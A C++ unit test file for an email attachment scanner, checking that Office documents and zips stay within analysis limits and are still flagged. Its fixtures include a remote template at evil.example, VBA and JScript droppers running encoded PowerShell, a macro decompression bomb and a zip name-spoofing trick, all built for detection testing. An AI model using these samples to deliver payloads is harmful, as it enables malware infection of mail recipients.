// SPDX-License-Identifier: Apache-2.0
// tests/unit/attach/hostile_test.cpp - issue 12: hostile attachments stop at the budget, never fail open
//
// Every input is generated here (nothing large is committed). The assertions are
// about limits hit and findings kept, never about wall time: the per-message time
// budget is given as already spent where a test needs the deadline to fire.
#include "archive_test_util.hpp"
#include "attach/file.hpp"
#include "attach/internal.hpp"
#include "attach/office_internal.hpp"
#include "core/budget.hpp"

#include <gtest/gtest.h>

#include <chrono>
#include <string>

using namespace replyguard;
using namespace replyguard::attach;

namespace {

/// A minimal OOXML package (zip): content types, one Word part and its .rels.
std::string ooxml(const std::string& rels, const std::string& document = "<w:document/>") {
    return rg_test::make_archive({
        {"[Content_Types].xml",
         "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
         "<Override PartName=\"/word/document.xml\" ContentType=\"application/"
         "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"},
        {"word/document.xml", document},
        {"word/_rels/document.xml.rels", rels},
    });
}

struct run_result {
    bool recognised = false;
    attachment_report rep;
    budget bud;
    std::uint64_t budget_left = 0;
};

/// analyse_office() with a message budget; `spent` gives one whose deadline has passed.
run_result run_office(const std::string& data, bool spent, limits lim = {}) {
    run_result r;
    if (spent) {
        lim.message_millis = 1;
        r.bud = budget(lim, std::chrono::steady_clock::now() - std::chrono::seconds(1));
    }
    analysis_options opt;
    opt.lim = lim;
    opt.bud = &r.bud;
    analysis_state st;
    st.lim = lim;
    st.opt = &opt;
    st.bytes_budget = lim.archive_bytes;
    file_view f;
    f.name = "invoice.docx";
    f.path = "invoice.docx";
    f.data = data;
    r.recognised = analyse_office(f, st, r.rep);
    r.budget_left = st.bytes_budget;
    return r;
}

bool hit(const budget& b, std::string_view id) {
    for (const auto& h : b.hits())
        if (h.id == id) return true;
    return false;
}

}  // namespace

// Case 1: `<Relationship <Relationship ...` (no '>' until the end) made every tag
// search to the end of the part: quadratic. The walk now stops at the budget, says
// so (ANALYSIS_TIMEOUT in the report and the message's budget), and the package
// is still recognised.
TEST(Hostile, OoxmlBrokenTagFloodStopsAtTheBudget) {
    std::string rels = "<Relationships>";
    for (int i = 0; i < 400'000; ++i) rels += "<Relationship Target=\"x\" ";
    rels += "/></Relationships>";
    const auto pkg = ooxml(rels);
    ASSERT_FALSE(pkg.empty());
    auto r = run_office(pkg, /*spent=*/true);
    EXPECT_TRUE(r.recognised);
    EXPECT_TRUE(rg_test::has(r.rep, "ANALYSIS_TIMEOUT"));
    EXPECT_TRUE(hit(r.bud, "ANALYSIS_TIMEOUT"));
    EXPECT_TRUE(r.bud.incomplete());
}

// Case 1: four million .rels entries -> a map entry each. Past k_max_tags the rest
// is not read, and that is a limit finding; a remote template before it is kept.
TEST(Hostile, OoxmlRelationshipFloodIsALimitNotAMemoryBlowUp) {
    std::string rels =
        "<Relationships><Relationship Id=\"t\" Type=\"http://x/attachedTemplate\" "
        "Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>";
    for (int i = 0; i < 150'000; ++i) rels += "<Relationship Id=\"r\" Type=\"t\" Target=\"a\"/>";
    rels += "</Relationships>";
    auto r = run_office(ooxml(rels), /*spent=*/false);
    EXPECT_TRUE(r.recognised);
    EXPECT_TRUE(rg_test::has(r.rep, "OFFICE_EXTERNAL_TEMPLATE")) << "found before the limit, kept";
    EXPECT_TRUE(rg_test::has(r.rep, "ANALYSIS_LIMIT"));
    EXPECT_TRUE(hit(r.bud, "ANALYSIS_LIMIT"));
}

// Case 1: an attribute of millions of `&amp;` was unescaped by replace() in
// place (quadratic). One pass now: the template is found and its target is the
// unescaped text.
TEST(Hostile, OoxmlEntityFloodIsUnescapedInOnePass) {
    std::string target = "http://evil.example/";
    for (int i = 0; i < 2'000'000; ++i) target += "&amp;";
    const std::string rels = "<Relationships><Relationship Id=\"t\" Type=\"http://x/attachedTemplate\" Target=\"" +
                             target + "\" TargetMode=\"External\"/></Relationships>";
    auto r = run_office(ooxml(rels), /*spent=*/false);
    const auto* f = rg_test::find(r.rep, "OFFICE_EXTERNAL_TEMPLATE");
    ASSERT_NE(f, nullptr);
    const std::string t = f->evidence["target"];
    EXPECT_TRUE(t.starts_with("http://evil.example/&&&&")) << t.substr(0, 60);
    EXPECT_EQ(t.find("&amp;"), std::string::npos);
    EXPECT_FALSE(r.bud.incomplete()) << "nothing was cut: the budget was not needed";
}

namespace {

// MS-OVBA containers written by hand.
// A raw (uncompressed) chunk of 4096 bytes: header 0x3FFF (size 4095+3-... raw flag clear).
std::string ovba_raw(std::string text) {
    std::string out(1, '\x01');
    for (std::size_t off = 0; off < text.size(); off += 4096) {
        std::string chunk = text.substr(off, 4096);
        chunk.resize(4096, ' ');
        out += '\xFF';
        out += '\x3F';  // 0x3FFF: size 4095 (+3), signature 0b011, raw
        out += chunk;
    }
    return out;
}

// One compressed chunk of 6 bytes expanding to 4096: a literal then a copy token
// of (offset 1, length 4095). `chunks` of them: a decompression bomb of 4096:6.
std::string ovba_bomb(std::size_t chunks) {
    std::string out(1, '\x01');
    for (std::size_t i = 0; i < chunks; ++i) {
        // header: size-3 = 3 (6 bytes: 2 header + 1 flags + 1 literal + 2 token), compressed flag
        const std::uint16_t hdr = 0x8000 | 0x3000 | 3;
        out += static_cast<char>(hdr & 0xFF);
        out += static_cast<char>(hdr >> 8);
        out += '\x02';  // flags: item 0 literal, item 1 copy token
        out += 'A';
        // bitcount 4 at diff 1: length mask 0x0FFF, offset bits 0xF000; offset 1 -> 0, length 4095 -> 4092
        const std::uint16_t token = 4092;
        out += static_cast<char>(token & 0xFF);
        out += static_cast<char>(token >> 8);
    }
    return out;
}

void put_record(std::string& d, std::uint16_t id, const std::string& data) {
    d += static_cast<char>(id & 0xFF);
    d += static_cast<char>(id >> 8);
    const auto n = static_cast<std::uint32_t>(data.size());
    for (int k = 0; k < 4; ++k) d += static_cast<char>((n >> (8 * k)) & 0xFF);
    d += data;
}

std::string le32s(std::uint32_t v) {
    std::string s;
    for (int k = 0; k < 4; ++k) s += static_cast<char>((v >> (8 * k)) & 0xFF);
    return s;
}

}  // namespace

// Case 3: 100 module streams each expanding 4096:6, then the dropper module. The
// decompressed bytes are charged to the message's budget (here 8 MiB); when it is
// spent the rest is not decompressed, ANALYSIS_LIMIT says so, and what was found
// before stays (the dropper module is first: OFFICE_VBA_SUSPICIOUS). Memory is
// bounded by the budget: the bytes charged never exceed it.
TEST(Hostile, VbaDecompressionBombDoesNotFailOpen) {
    std::string dir;
    put_record(dir, 0x0003, std::string("\xE4\x04", 2));  // PROJECTCODEPAGE 1252
    std::vector<office::ole_stream> streams;
    auto add_module = [&](const std::string& name, std::string compressed) {
        put_record(dir, 0x0019, name);
        put_record(dir, 0x001A, name);
        put_record(dir, 0x0031, le32s(0));
        streams.push_back({"VBA/" + name, std::move(compressed)});
    };
    add_module("Dropper", ovba_raw("Attribute VB_Name = \"Dropper\"\nSub AutoOpen()\n"
                                   "  Shell \"powershell -enc AAAA\", vbHide\nEnd Sub\n"));
    for (int i = 0; i < 100; ++i) add_module("Bomb" + std::to_string(i), ovba_bomb(256));  // 1 MiB each
    dir += std::string("\x10\x00\x00\x00\x00\x00", 6);
    streams.insert(streams.begin(), office::ole_stream{"VBA/dir", ovba_raw(dir)});

    limits lim;
    lim.archive_bytes = 8u << 20;
    budget bud(lim);
    analysis_options opt;
    opt.lim = lim;
    opt.bud = &bud;
    analysis_state st;
    st.lim = lim;
    st.opt = &opt;
    st.bytes_budget = lim.archive_bytes;
    file_view f;
    f.name = "bomb.doc";
    f.path = "bomb.doc";
    attachment_report rep;
    office::office_ctx c{f, st, rep};
    office::analyse_vba(c, streams);

    EXPECT_TRUE(rg_test::has(rep, "OFFICE_VBA_MACRO"));
    EXPECT_TRUE(rg_test::has(rep, "OFFICE_VBA_SUSPICIOUS")) << "found before the limit, kept";
    EXPECT_TRUE(rg_test::has(rep, "ANALYSIS_LIMIT"));
    EXPECT_TRUE(hit(bud, "ANALYSIS_LIMIT"));
    // Bounded: at most the budget was decompressed, and the modules after it were not read.
    std::uint64_t source = 0;
    std::size_t not_read = 0;
    for (const auto& m : c.entry["vba"]["modules"]) {
        source += m.value("source_bytes", std::uint64_t{0});
        if (m.contains("not_read")) ++not_read;
    }
    EXPECT_LE(source, lim.archive_bytes);
    EXPECT_GT(not_read, 80u);
    EXPECT_TRUE(c.entry["vba"].value("incomplete", false));
}

// Case 11: a zip whose local header says "readme_now.txt" while the central
// directory (what Explorer and 7-Zip show and extract) says "invoice.pdf.js".
// The mismatch is a finding, and the member is judged by the Windows name.
TEST(Hostile, ZipCentralDirectoryNameWins) {
    const std::string js = "var s = new ActiveXObject('WScript.Shell'); s.Run('powershell -enc AAAA');\n";
    rg_test::write_opts o;
    o.options = "zip:compression=store";
    std::string zip = rg_test::make_archive({{"invoice.pdf.js", js}}, o);
    ASSERT_TRUE(zip.starts_with("PK\x03\x04"));
    ASSERT_EQ(zip.compare(30, 14, "invoice.pdf.js"), 0);
    zip.replace(30, 14, "readme_now.txt");  // the local header lies; the central directory does not

    const auto m = rg_test::message_with("see attached", {rg_test::attachment("invoice.zip", zip, "application/zip")});
    analysis_options opt;
    budget bud;
    opt.bud = &bud;
    const auto reps = analyse(m, opt);
    ASSERT_EQ(reps.size(), 1u);
    const auto* mm = rg_test::find(reps[0], "ARCHIVE_NAME_MISMATCH");
    ASSERT_NE(mm, nullptr);
    EXPECT_EQ(mm->evidence["members"][0]["central_directory"], "invoice.pdf.js");
    EXPECT_EQ(mm->evidence["members"][0]["local_header"], "readme_now.txt");
    EXPECT_TRUE(rg_test::has(reps[0], "ATTACH_SCRIPT") || rg_test::has(reps[0], "ATTACH_DOUBLE_EXTENSION"))
        << "the Windows name invoice.pdf.js is judged";
    bool named = false;
    for (const auto& mem : reps[0].details["members"]) named |= mem.value("name", "") == "invoice.pdf.js";
    EXPECT_TRUE(named) << reps[0].details["members"].dump();
}

// The same zip without the lie raises no mismatch.
TEST(Hostile, ZipWithConsistentNamesHasNoMismatch) {
    rg_test::write_opts o;
    o.options = "zip:compression=store";
    const std::string zip = rg_test::make_archive({{"a.txt", "hello"}, {"b.txt", "world"}}, o);
    const auto m = rg_test::message_with("x", {rg_test::attachment("a.zip", zip, "application/zip")});
    const auto reps = analyse(m, analysis_options{});
    ASSERT_EQ(reps.size(), 1u);
    EXPECT_FALSE(rg_test::has(reps[0], "ARCHIVE_NAME_MISMATCH"));
}
